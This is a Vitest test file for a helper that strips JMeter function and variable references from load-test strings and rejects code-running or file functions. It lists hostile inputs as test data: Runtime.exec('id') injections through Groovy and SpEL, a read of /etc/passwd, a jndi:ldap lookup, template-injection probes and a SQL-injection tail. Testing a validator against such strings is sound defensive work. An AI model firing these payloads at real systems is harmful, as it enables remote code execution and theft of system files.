import { describe, expect, it } from 'vitest';
import { textAroundJmeterRefs } from '../../src/model/jmeter-functions.js';

describe('textAroundJmeterRefs', () => {
  it("leaves a load-test plan's function and variable references out and keeps the text around them (blind benign set 7)", () => {
    expect(textAroundJmeterRefs('/api/search?q=${__urlencode(${term})}&page=${__Random(1,5)}')).toBe('/api/search?q= &page= ');
    expect(textAroundJmeterRefs('id-${__UUID()}-${__time(yyyyMMdd,)}')).toBe('id- - ');
    expect(textAroundJmeterRefs('${__urlencode(${__Random(1,5)})}')).toBe(' ');
    expect(textAroundJmeterRefs("${__Random(1,5)}' OR '1'='1")).toBe(" ' OR '1'='1");
  });

  it('is null for code-running or file functions, expressions, lookups, other braces and values without a function call', () => {
    for (const v of [
      "${__groovy(Runtime.getRuntime().exec('id'))}",
      '${__javaScript(1+1)}',
      '${__BeanShell(x)}',
      '${__eval(${x})}',
      '${__FileToString(/etc/passwd,,)}',
      '${__Random(1,${__groovy(1)})}',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '${__Random(1,5)}${jndi:ldap://x.example/a}',
      '${__Random(1,5)}${7*7}',
      '${__Random(1,5)}{{7*7}}',
      '${__Random(1,5)}<script>',
      '${host}/x',
      '${__Random(1,5)}\n${x}',
    ]) {
      expect(textAroundJmeterRefs(v), v).toBeNull();
    }
  });
});
